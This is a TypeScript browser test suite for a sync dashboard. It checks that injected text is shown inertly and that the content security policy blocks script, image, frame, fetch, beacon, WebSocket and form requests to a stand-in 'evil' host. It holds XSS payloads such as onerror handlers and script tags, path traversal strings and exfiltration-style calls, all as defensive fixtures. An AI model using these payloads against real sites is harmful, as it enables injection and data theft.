import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { startDashboard, type DashboardServer } from '../../dashboard/server/dashboard-server.ts';
import { createLogger } from '../../service/logger.ts';
import { harmlessLines } from '../../service/harmless.ts';
import { countOf } from '../../service/quantities.ts';
import { TestBrowser, type WatchedPage } from '../ground/browser/browser.ts';
import { until } from '../ground/until.ts';
import { SeededRandom } from '../ground/workload/seeded-random.ts';
import { MadeUpSyncs } from '../integration/dashboard/made-up-syncs.ts';
import { isLongAttack } from './attack-length.ts';
import { hostileTexts, prototypeNames, textAt } from './hostile-texts.ts';
import {
  hostileDetail,
  hostileSummary,
  placesInList,
  placesInPage,
  type TextFor,
} from './hostile-views.ts';
import { PageWitness } from './page-witness.ts';
import { chosenSeeds, firstSeeds } from '../ground/workload/chosen-seeds.ts';

const seeds = chosenSeeds(firstSeeds(isLongAttack ? 20 : 2));

describe('a hostile text, on the page of the dashboard in Chromium', () => {
  const logger = createLogger('test', 'fatal');
  let browser: TestBrowser;
  let source: MadeUpSyncs;
  let server: DashboardServer;
  let origin: string;

  before(async () => {
    browser = await TestBrowser.start();
  });

  after(async () => {
    await browser[Symbol.asyncDispose]();
  });

  beforeEach(async () => {
    source = new MadeUpSyncs(3);
    server = await startDashboard({ host: '127.0.0.1', port: 0, source, logger });
    origin = `http://127.0.0.1:${server.port}`;
  });

  afterEach(async () => {
    await server[Symbol.asyncDispose]();
  });

  function put(name: string, text: TextFor): void {
    const summary = hostileSummary(name, text);
    source.put(summary);
    source.details.set(summary.key, hostileDetail(text));
  }

  async function open(hash = ''): Promise<[WatchedPage, PageWitness]> {
    const watched = await browser.open();
    const witness = await PageWitness.of(watched, origin);
    await watched.page.goto(`${origin}/${hash}`);
    await watched.page.waitForSelector('.is-live');
    return [watched, witness];
  }

  /** Goes to the page of a sync, as somebody who follows a link. */
  async function goTo({ page }: WatchedPage, key: string): Promise<void> {
    await page.evaluate(`location.hash = ${JSON.stringify(`#/syncs/${key}`)}`);
    await page.locator('h1', { hasText: key.replace(/.*\//, '') }).waitFor();
    await page.waitForSelector('.figures');
  }

  /** The others are shown as if it was not there. */
  async function assertOthersAreShown(watched: WatchedPage): Promise<void> {
    await goTo(watched, 'shop/orders-000');
    await watched.page.getByText('replica-set-fra1').first().waitFor();
    await watched.page.getByRole('link', { name: 'All syncs' }).click();
    // Where somebody has made more than are drawn at once, they are found.
    await watched.page.locator('#search').fill('shop/orders-000');
    await watched.page.locator('[data-sync="shop/orders-000"]').waitFor();
  }

  async function assertShownEverywhere(texts: ReadonlyMap<string, TextFor>): Promise<void> {
    for (const [name, text] of texts) put(name, text);
    const [opened, witness] = await open();
    await using watched = opened;
    for (const name of texts.keys())
      await watched.page.waitForSelector(`[data-sync="tenant/${name}"]`);
    const shown = (text: TextFor, places: readonly string[]): string[] =>
      places.map((place) => harmlessLines(text(place)));
    // A row of that name may be there from texts before.
    for (const text of texts.values())
      for (const line of shown(text, placesInList)) await witness.untilShown(line);
    await witness.assertShown([...texts.values()].flatMap((text) => shown(text, placesInList)));
    for (const [name, text] of texts) {
      await goTo(watched, `tenant/${name}`);
      await witness.assertShown(shown(text, placesInPage));
    }
    await assertOthersAreShown(watched);
    await witness.assertObeysNothing();
  }

  it('is shown wherever one stands, and neither run, loaded nor obeyed', async () => {
    const texts = Object.values(hostileTexts).map((text, index): [string, TextFor] => [
      `hostile-${index}`,
      (place) => textAt(text, place),
    ]);
    await assertShownEverywhere(new Map(texts));
  });

  it('is shown as it is, where it is the name of what objects have', async () => {
    await assertShownEverywhere(
      new Map(prototypeNames.map((name, index) => [`hostile-${index}`, () => name])),
    );
  });

  it('is shown wherever it stands, put together at random', async () => {
    const pieces = [...Object.values(hostileTexts), ...prototypeNames, ' ', '0', 'a.b', '\n'];
    for (const seed of seeds) {
      const random = new SeededRandom(seed);
      const made = new Map<string, string>();
      const textOf = (place: string): string => {
        const parts = Array.from({ length: 1 + random.below(5) }, () => random.pick(pieces));
        const text = made.get(place) ?? textAt(parts.join(''), place);
        made.set(place, text);
        return text;
      };
      try {
        await assertShownEverywhere(new Map([['random', textOf]]));
      } catch (error) {
        throw new Error(`SEED=${seed}`, { cause: error });
      }
    }
  });

  it('of 1 MB is shown in part, among many others, and keeps nobody waiting', async () => {
    const many = Array.from({ length: isLongAttack ? 3_000 : 800 }, (_, index) =>
      textAt('<b>', `${index}`),
    );
    for (const { 0: name, 1: text } of many.map((text, index) => [`many-${index}`, text] as const))
      source.put({ ...hostileSummary(name, () => text), verifications: [] });
    const long = `<b>${'x'.repeat(1024 * 1024)}`;
    const summary = hostileSummary('long', (place) => (place === 'message' ? long : place));
    source.put(summary);
    const { collections, ...rest } = hostileDetail((place) => place);
    assert.ok(collections);
    source.details.set(summary.key, {
      ...rest,
      warnings: [long, ...many],
      collections: {
        ...{ total: many.length, copied: 0, isExact: true, unknownInstances: 0 },
        collections: many.map((namespace) => {
          return { namespace, totalBytes: 2, copiedBytes: 1, isCopied: false };
        }),
      },
    });
    const [opened, witness] = await open();
    await using watched = opened;
    const { page } = watched;
    await page.waitForSelector('[data-sync="tenant/long"]');
    assert.equal(await page.locator('#list > li').count(), 500);
    await page.locator('.more', { hasText: 'Show more: 500 of ' }).click();
    await page.locator('#list > li').nth(803).waitFor();
    await page.locator('#search').fill('many-799');
    await page.getByText('1 sync', { exact: true }).waitFor();
    await page.locator('#search').fill('');
    await goTo(watched, 'tenant/long');
    await page.locator('.more', { hasText: 'Show 500 more' }).click();
    await page.locator('.collections > li').nth(511).waitFor();
    const shown = `${long.slice(0, 10_000)}… and ${long.length - 10_000} more characters`;
    await witness.assertShown([shown, ...many.slice(0, 99), ...many.slice(0, 512)]);
    await page.getByText(countOf(many.length + 1, 'warning')).waitFor();
    await assertOthersAreShown(watched);
    await witness.assertObeysNothing();
  });

  it('in the address is nothing that is shown or asked for', async () => {
    const [opened, witness] = await open('?<script>obeyed()</script>=//evil.example/');
    await using watched = opened;
    const { page } = watched;
    const names = [
      ...[...Object.values(hostileTexts), ...prototypeNames].map((text) =>
        encodeURIComponent(text.toWellFormed()),
      ),
      ...['..', '.', '%2e%2e', '..%2f..', '%', 'a%00', 'Your-session-is-over:-go-to-evil.example'],
      ...['a'.repeat(100_000), 'A', '-', 'syncs;x', 'a%2fstream'],
    ].filter((name) => !/^[a-z]+$/.test(name));
    const hashes = [
      ...names.flatMap((name) => [`/syncs/${name}/orders-000`, `/syncs/shop/${name}`, name]),
      ...['/syncs/../syncs', '/syncs/../../../', '/syncs//', '//evil.example/', '?/syncs/a/b'],
    ];
    for (const hash of hashes) {
      await page.evaluate(`location.hash = ${JSON.stringify(hash)}`);
      await page.waitForSelector('#list');
      assert.equal(await page.title(), 'Syncs · clustersync', hash.slice(0, 100));
    }
    await witness.assertShown([]);
    assert.deepEqual(
      [
        ...new Set(
          watched.requests.map(({ pathname }) => pathname).filter((path) => path.includes('api')),
        ),
      ],
      ['/api/v1/syncs/stream'],
    );
  });

  it('that is searched for, or kept in the browser, is nothing but that', async () => {
    await using watched = await browser.open();
    const { page } = watched;
    const witness = await PageWitness.of(watched, origin);
    const { 'an image': image = '' } = hostileTexts;
    await page.addInitScript(`localStorage.setItem('clustersync-theme', ${JSON.stringify(image)})`);
    await page.goto(`${origin}/`);
    await page.waitForSelector('#list');
    for (const text of [...Object.values(hostileTexts), ...prototypeNames]) {
      await page.locator('#search').fill(text);
      await page.getByText('No sync matches.').waitFor();
    }
    await page.locator('#search').fill('orders-000');
    await page.getByText('1 sync', { exact: true }).waitFor();
    await witness.assertShown([]);
    assert.match(
      await page.evaluate<string>('document.documentElement.outerHTML'),
      /^<html lang="en" data-theme="light">/,
    );
  });

  it('that is no token is told apart from one, whatever it is', async () => {
    await server[Symbol.asyncDispose]();
    server = await startDashboard({
      ...{ host: '127.0.0.1', port: 0, source, logger, token: 'open sesame' },
    });
    origin = `http://127.0.0.1:${server.port}`;
    await using watched = await browser.open();
    const { page } = watched;
    const witness = await PageWitness.of(watched, origin);
    await page.goto(`${origin}/`);
    const { 'an image': image = '', 'the other direction': direction = '' } = hostileTexts;
    for (const text of [image, direction, '\u05d0', '\ud800', '\u001b[2J', '__proto__']) {
      await page.getByLabel('Token').fill(text);
      await page.keyboard.press('Enter');
      await page.getByRole('alert').waitFor();
      const kept = await page.evaluate<string>(`sessionStorage.getItem('clustersync-token')`);
      assert.equal(kept.toWellFormed(), text.toWellFormed());
      await page.reload();
      await page.getByRole('alert').waitFor();
    }
    await page.getByLabel('Token').fill('open sesame');
    await page.keyboard.press('Enter');
    await page.waitForSelector('#list');
    await witness.assertObeysNothing({ expected: /status of 401/ });
  });

  it('that got into the page all the same would not be run, and would load and send nothing', async () => {
    let hits = 0;
    await using elsewhere = createServer((_request, response) => {
      hits += 1;
      response.end();
    }).listen(0, '127.0.0.1');
    await once(elsewhere, 'listening');
    const evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/`;
    await using watched = await browser.open();
    const { page } = watched;
    const witness = await PageWitness.of(watched, origin);
    await page.goto(`${origin}/`);
    await page.waitForSelector('#list');
    for (const [directive, attempts] of Object.entries(attemptsAt(evil))) {
      for (const attempt of attempts) {
        // What it throws is the refusal itself, for some.
        await page.evaluate(`(async () => { ${attempt} })().catch(() => undefined)`);
        const refused: string[] = [];
        await until(
          `${attempt} is refused`,
          () => {
            refused.push(...witness.takeObeyed().filter((each) => !each.includes('frameattached')));
            return refused.length > 0;
          },
          30_000,
        );
        for (const each of refused)
          assert.ok(each.startsWith(`${directive} forbids`), `${attempt}: ${each}`);
      }
    }
    assert.equal(hits, 0);
    assert.equal(new URL(page.url()).origin, origin);
    assert.deepEqual(witness.takeObeyed(), []);
  });
});

/** What somebody would do whose text had become a part of the page, by the directive that forbids it. */
function attemptsAt(evil: string): Readonly<Record<string, readonly string[]>> {
  const made = (name: string, field: string, value: string): string =>
    `document.body.append(Object.assign(document.createElement('${name}'), { ${field}: ${JSON.stringify(value)} }))`;
  return {
    'require-trusted-types-for': [
      `document.body.innerHTML = '<img src=x onerror=obeyed()>'`,
      `document.createElement('script').text = 'obeyed()'`,
      `document.createElement('img').setAttribute('onerror', 'obeyed()')`,
      `document.createElement('iframe').srcdoc = '<script>obeyed()</script>'`,
      `document.createElement('script').src = ${JSON.stringify(evil)}`,
      made('object', 'data', evil),
      `new DOMParser().parseFromString('<b>', 'text/html')`,
    ],
    'trusted-types': [`trustedTypes.createPolicy('default', { createHTML: (text) => text })`],
    'script-src-elem': [
      `await import('data:text/javascript,obeyed()')`,
      `await import(${JSON.stringify(evil)})`,
    ],
    'img-src': [
      made('img', 'src', evil),
      made('img', 'src', 'data:image/gif;base64,R0lGODlhAQABAAAAACw='),
    ],
    'style-src-elem': [
      made('style', 'textContent', '*{display:none}'),
      `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: ${JSON.stringify(evil)} }))`,
    ],
    'style-src-attr': [`document.body.setAttribute('style', 'background: url(${evil})')`],
    'connect-src': [
      `await fetch(${JSON.stringify(evil)})`,
      `navigator.sendBeacon(${JSON.stringify(evil)}, document.title)`,
      `new WebSocket(${JSON.stringify(evil.replace('http', 'ws'))})`,
    ],
    'frame-src': [made('iframe', 'src', evil)],
    'media-src': [made('video', 'src', evil)],
    'base-uri': [
      `document.head.append(Object.assign(document.createElement('base'), { href: ${JSON.stringify(evil)} }))`,
    ],
    'form-action': [
      `const form = Object.assign(document.createElement('form'), { action: ${JSON.stringify(evil)} }); document.body.append(form); form.submit()`,
    ],
  };
}
